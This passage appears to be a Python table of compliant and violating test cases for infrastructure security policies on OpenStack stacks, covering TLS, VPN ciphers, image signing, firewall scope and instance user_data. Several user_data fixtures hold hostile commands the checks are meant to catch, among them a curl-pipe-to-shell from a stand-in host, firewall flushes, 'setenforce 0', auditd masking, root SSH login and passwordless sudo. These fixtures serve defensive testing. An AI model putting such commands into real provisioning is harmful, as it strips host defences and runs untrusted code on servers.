        "passphrase-forever",
        one(t.SECRET, "pp", {"secretType": "passphrase", "payload": "x", "acl": PRIVATE_ACL}, secret=("payload",)),
        None,
    ),
    (
        "instance-block-devices-encrypted",
        "ephemeral",
        swap(
            HOST,
            blockDevices=[
                *find(compliant_stack_cache(), HOST).inputs["blockDevices"],
                {"sourceType": "blank", "destinationType": "local", "volumeSize": 10},
            ],
        ),
        None,
    ),
    (
        "instance-block-devices-encrypted",
        "blank-plain-volume",
        swap(
            HOST,
            blockDevices=[
                *find(compliant_stack_cache(), HOST).inputs["blockDevices"],
                {"sourceType": "blank", "destinationType": "volume", "volumeSize": 10, "volumeType": "standard"},
            ],
        ),
        None,
    ),
    ("lb-pool-reencrypts", "plain-http", pool(tlsEnabled=False), None),
    ("lb-pool-reencrypts", "tcp-unset", pool(protocol="TCP", tlsEnabled=None), None),
    ("lb-pool-reencrypts", "old-tls", pool(tlsVersions=["TLSv1", "TLSv1.2"]), None),
    ("lb-pool-verifies-backend", "no-ca", pool(caTlsContainerRef=None), None),
    ("lb-pool-health-monitor", "unmonitored", pool(), None),
    ("vpn-ike-policy-strong", "defaults", one(t.IKE_POLICY, "ike", {"name": "ike"}), None),
    ("vpn-ike-policy-strong", "sha1", one(t.IKE_POLICY, "ike", {**STRONG_IKE, "authAlgorithm": "sha1"}), None),
    ("vpn-ike-policy-strong", "3des", one(t.IKE_POLICY, "ike", {**STRONG_IKE, "encryptionAlgorithm": "3des"}), None),
    ("vpn-ike-policy-strong", "ikev1", one(t.IKE_POLICY, "ike", {**STRONG_IKE, "ikeVersion": "v1"}), None),
    ("vpn-ike-policy-strong", "group5", one(t.IKE_POLICY, "ike", {**STRONG_IKE, "pfs": "group5"}), None),
    ("vpn-ipsec-policy-strong", "defaults", one(t.IPSEC_POLICY, "ipsec", {}), None),
    (
        "vpn-ipsec-policy-strong",
        "ah-only",
        one(t.IPSEC_POLICY, "ipsec", {**STRONG_IPSEC, "transformProtocol": "ah"}),
        None,
    ),
    ("image-not-public", "public", one(t.IMAGE, "img", {"visibility": "public", "properties": SIGNED}), None),
    ("image-not-public", "community", one(t.IMAGE, "img", {"visibility": "community", "properties": SIGNED}), None),
    ("image-signed", "unsigned", one(t.IMAGE, "img", {"visibility": "private"}), None),
    ("image-signed", "md5", one(t.IMAGE, "img", {"properties": {**SIGNED, "img_signature_hash_method": "MD5"}}), None),
    (
        "image-source-https",
        "http",
        one(t.IMAGE, "img", {"properties": SIGNED, "imageSourceUrl": "http://mirror/debian.qcow2"}),
        None,
    ),
    (
        "image-source-https",
        "no-checksum",
        one(t.IMAGE, "img", {"properties": SIGNED, "imageSourceUrl": "https://m/d", "verifyChecksum": False}),
        None,
    ),
    ("instance-host-baseline", "markers-then-flush", user_data_with("  - [nft, flush, ruleset]\n"), None),
    ("instance-host-baseline", "markers-then-stop-nft", user_data_with("  - systemctl stop nftables\n"), None),
    (
        "instance-host-baseline",
        "markers-then-mask-auditd",
        user_data_with("  - [systemctl, mask, --now, auditd.service]\n"),
        None,
    ),
    (
        "instance-host-baseline",
        "root-login-sed",
        user_data_with("  - sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config\n"),
        None,
    ),
    ("instance-host-baseline", "iptables-flush", user_data_with("  - iptables -F\n"), None),
    ("instance-host-baseline", "setenforce", user_data_with("  - setenforce 0\n"), None),
    ("instance-host-baseline", "ufw", user_data_with("  - ufw disable\n"), None),
    ("instance-host-baseline", "curl-sh", user_data_with("  - curl -fsSL https://x.example/i.sh | sh\n"), None),
    ("instance-host-baseline", "bootcmd", user_data_with("bootcmd:\n  - [echo, hi]\n"), None),
    (
        "instance-host-baseline",
        "sshd-drop-in",
        user_data_with(
            'write_files:\n  - path: /etc/ssh/sshd_config.d/00-x.conf\n    content: "PermitRootLogin yes\\n"\n'
        ),
        None,
    ),
    (
        "instance-host-baseline",
        "nopasswd",
        user_data_with("users:\n  - name: ops\n    sudo: ALL=(ALL) NOPASSWD:ALL\n"),
        None,
    ),
    (
        "instance-host-baseline",
        "appended-after-render",
        appended_after_render("  - [nft, add, rule, inet, filter, input, accept]\n"),
        None,
    ),
    ("instance-host-baseline", "ssh-pwauth", user_data_with("ssh_pwauth: true\n"), None),
]

COMPLIANT += [
    ("instance-no-admin-pass", "unset", same, None),
    (
        "keypair-public-key-only",
        "imported",
        one(t.KEYPAIR, "kp", {"name": "ops", "publicKey": "ssh-ed25519 AAAA"}),
        None,
    ),
    (
        "no-plaintext-secret-inputs",
        "psk-secret",
        one("openstack:vpnaas/siteConnection:SiteConnection", "vpn", {"psk": "abc"}, secret=("psk",)),
        None,
    ),
    ("no-plaintext-secret-inputs", "refs-and-types", same, None),
    (
        "provider-secure-transport",
        "clouds-yaml",
        one(PROVIDER, "os", {"cloud": "ccaas", "authUrl": "https://k:5000/v3", "insecure": "false"}),
        None,
    ),
    ("appcred-access-rules-narrow", "container-rules", same, None),
    ("identity-no-admin-role-assignment", "member", role_assignment("member"), None),
    ("ec2-credential-backup-only", "backup-user", ec2_for("prod-backup-s3"), None),
    (
        "swift-no-public-read",
        "negative-referrer-only",
        swap("backup-primary", containerRead=".r:-evil.example.com"),
        None,
    ),
    (
        "swift-acl-no-cross-project",
        "allowed-project",
        swap("backup-primary", containerRead="audit-project:*"),
        {"swift-acl-no-cross-project": {"allowedAclProjects": ["audit-project"]}},
    ),
    (
        "swift-no-write-acl",
        "allowed-writer",
        swap("backup-primary", containerWrite="ops:deployer"),
        {"swift-no-write-acl": {"allowedWriteGrantees": ["ops:deployer"]}},
    ),
    (
        "swift-no-foreign-sync",
        "approved-target",
        swap("backup-primary", containerSyncTo="//realm/dr/AUTH_x/c"),
        {"swift-no-foreign-sync": {"allowedSyncTargets": ["//realm/dr"]}},
    ),
    (
        "share-access-private-only",
        "app-subnet",
        one(t.SHARE_ACCESS, "sa", {"accessType": "ip", "accessTo": "10.20.3.0/24"}),
        None,
    ),
    (
        "share-access-private-only",
        "cert-rule",
        one(t.SHARE_ACCESS, "sa", {"accessType": "cert", "accessTo": "app.example"}),
        None,
    ),
    ("keymanager-acl-private", "private", same, None),
    ("keymanager-secret-expires", "certificate-material", same, None),
    (
        "keymanager-secret-expires",
        "passphrase-expiring",
        one(
            t.SECRET,
            "pp",
            {"secretType": "passphrase", "payload": "x", "acl": PRIVATE_ACL, "expiration": "2027-03-01T00:00:00Z"},
            secret=("payload",),
        ),
        None,
    ),
    (
        "instance-block-devices-encrypted",
        "encrypted-data-volume",
        swap(
            HOST,
            blockDevices=[
                *find(compliant_stack_cache(), HOST).inputs["blockDevices"],
                {"sourceType": "blank", "destinationType": "volume", "volumeSize": 10, "volumeType": "encrypted-luks2"},
            ],
        ),
        None,
    ),
    ("lb-pool-reencrypts", "passthrough", pool(protocol="HTTPS", tlsEnabled=None), None),
    ("lb-pool-verifies-backend", "with-ca", pool(), None),
    ("lb-pool-health-monitor", "monitored", pool_with_monitor, None),
    ("vpn-ike-policy-strong", "strong", one(t.IKE_POLICY, "ike", STRONG_IKE), None),
    ("vpn-ipsec-policy-strong", "strong", one(t.IPSEC_POLICY, "ipsec", STRONG_IPSEC), None),
    ("image-not-public", "shared", one(t.IMAGE, "img", {"visibility": "shared", "properties": SIGNED}), None),
    ("image-signed", "signed", one(t.IMAGE, "img", {"properties": SIGNED}), None),
    (
        "image-source-https",
        "https",
        one(t.IMAGE, "img", {"properties": SIGNED, "imageSourceUrl": "https://m/d.qcow2"}),
        None,
    ),
    (
        "instance-host-baseline",
        "extra-harmless-runcmd",
        user_data_with("  - [systemctl, restart, chrony.service]\n"),
        None,
    ),
]


# --- FWaaS rules (NET-13): spellings and sides the anchors (CKV_OPENSTACK_5, AVD-OPNSTK-0002) name ---------
UNKNOWN = "04da6b54-80e4-46f7-96ec-b56ff0331ba9"  # the engine's unknown-string sentinel (a first preview)
SCOPED_FW = {
    "action": "allow",
    "protocol": "tcp",
    "sourceIpAddress": "10.20.0.0/24",
    "destinationIpAddress": "10.20.20.5",
}


def fw_rule(**inputs: Any) -> Builder:
    return one(t.FW_RULE, "fw-rule", {k: v for k, v in {**SCOPED_FW, **inputs}.items() if v is not None})


VIOLATING += [
    ("fw-rule-allow-scoped", "no-destination", fw_rule(destinationIpAddress=None), None),
    ("fw-rule-allow-scoped", "no-source", fw_rule(sourceIpAddress=None), None),
    ("fw-rule-allow-scoped", "empty-destination", fw_rule(destinationIpAddress="  "), None),
    ("fw-rule-allow-scoped", "dest-anywhere", fw_rule(destinationIpAddress="0.0.0.0/0"), None),
    ("fw-rule-allow-scoped", "src-v6-anywhere-spelling", fw_rule(sourceIpAddress="0::0/0"), None),
    ("fw-rule-allow-scoped", "src-host-bits-anywhere", fw_rule(sourceIpAddress="10.9.8.7/0"), None),
    ("fw-rule-allow-scoped", "dest-public-host", fw_rule(destinationIpAddress="8.8.8.8"), None),
    ("fw-rule-allow-scoped", "dest-mapped-public", fw_rule(destinationIpAddress="::ffff:8.8.8.0/120"), None),
    ("fw-rule-allow-scoped", "src-unparseable", fw_rule(sourceIpAddress="10.0.0.0/33"), None),
    ("fw-rule-allow-scoped", "dest-unknown-at-preview", fw_rule(destinationIpAddress=UNKNOWN), None),
    ("fw-rule-allow-scoped", "action-spelling", fw_rule(action=" ALLOW ", sourceIpAddress=None), None),
    ("fw-rule-allow-scoped", "action-unknown", fw_rule(action=UNKNOWN, destinationIpAddress=None), None),
    ("fw-rule-allow-scoped", "enabled-unknown", fw_rule(enabled=UNKNOWN, destinationIpAddress=None), None),
]
COMPLIANT += [
    ("fw-rule-allow-scoped", "internal-both", fw_rule(), None),
    ("fw-rule-allow-scoped", "mapped-private", fw_rule(destinationIpAddress="::ffff:10.20.20.0/120"), None),
    (
        "fw-rule-allow-scoped",
        "ula-v6",
        fw_rule(sourceIpAddress="fd00:20::/64", destinationIpAddress="fd00:21::5"),
        None,
    ),
    ("fw-rule-allow-scoped", "deny-any", fw_rule(action="deny", sourceIpAddress=None, destinationIpAddress=None), None),
    (
        "fw-rule-allow-scoped",
        "default-deny",
        fw_rule(action=None, sourceIpAddress=None, destinationIpAddress=None),
        None,
    ),
    ("fw-rule-allow-scoped", "disabled-allow", fw_rule(enabled=False, destinationIpAddress="0.0.0.0/0"), None),
]


# --- HOST-01 at a first preview: user_data unknown, judged through what it was computed from ---------------
def unknown_user_data(*source_types: str) -> Builder:
    """HOST's userData made unknown and computed from new resources of the given types (property deps)."""

    def build(stack: Stack) -> Stack:
        sources = [res(token, f"src-{i}", {}) for i, token in enumerate(source_types)]
        out = []
        for r in stack:
            if r.name == HOST:
                r = replace(
                    with_inputs(r, userData=UNKNOWN),
                    dependencies=(*r.dependencies, *(s.urn for s in sources)),
                    property_dependencies={**r.property_dependencies, "userData": tuple(s.urn for s in sources)},
                )
            out.append(r)
        return [*out, *sources]

    return build


KEY = "tls:index/privateKey:PrivateKey"
VIOLATING += [
    (
        "instance-host-baseline-sources",
        "from-stack-reference",
        unknown_user_data(KEY, "pulumi:pulumi:StackReference"),
        None,
    ),
    ("instance-host-baseline-sources", "from-another-instance", unknown_user_data(t.INSTANCE), None),
    ("instance-host-baseline-sources", "from-nothing", unknown_user_data(), None),
    ("instance-host-baseline-deferred", "unknown", unknown_user_data(KEY), None),
]
COMPLIANT += [
    (
        "instance-host-baseline-sources",
        "keys-and-credentials",
        unknown_user_data(KEY, "random:index/randomPassword:RandomPassword", "openstack:blockstorage/volume:Volume"),
        None,
    ),
    # the resource policy defers (not-applicable) instead of a "can't run" advisory, and never passes a known text
    ("instance-host-baseline", "unknown-deferred", unknown_user_data(KEY), None),
    ("instance-anti-affinity", "group-unknown-at-preview", swap(HOST, schedulerHints=[{"group": UNKNOWN}]), None),
    ("listener-barbican-certificate", "ref-unknown-at-preview", swap("https", defaultTlsContainerRef=UNKNOWN), None),
    ("lb-pool-verifies-backend", "ca-unknown-at-preview", pool(caTlsContainerRef=UNKNOWN), None),
]
# the program's own shape at a first preview: the user is created in the same run, so its id is unknown
VIOLATING += [
    ("ec2-credential-backup-only", "own-user-id-unknown", ec2_for(None, user_id=UNKNOWN), None),
    ("ec2-credential-backup-only", "other-user-id-unknown", ec2_for("alice", user_id=UNKNOWN), None),
    ("ec2-credential-backup-only", "empty-project", ec2_for("prod-backup-s3", project=""), None),
]
COMPLIANT += [
    ("ec2-credential-backup-only", "backup-user-id-unknown", ec2_for("prod-backup-s3", user_id=UNKNOWN), None),
    (
        "ec2-credential-backup-only",
        "backup-user-and-project-unknown",
        ec2_for("prod-backup-s3", project=UNKNOWN, user_id=UNKNOWN),
        None,
    ),
    (
        "instance-host-baseline-sources",
        "ec2-credential",
        unknown_user_data(KEY, "openstack:identity/ec2CredentialV3:Ec2CredentialV3"),
        None,
    ),
]
VIOLATING += [
    ("instance-anti-affinity", "empty-group", swap(HOST, schedulerHints=[{"group": ""}]), None),
    ("listener-barbican-certificate", "empty-ref", swap("https", defaultTlsContainerRef=""), None),
    ("lb-pool-verifies-backend", "empty-ca", pool(caTlsContainerRef=""), None),
]
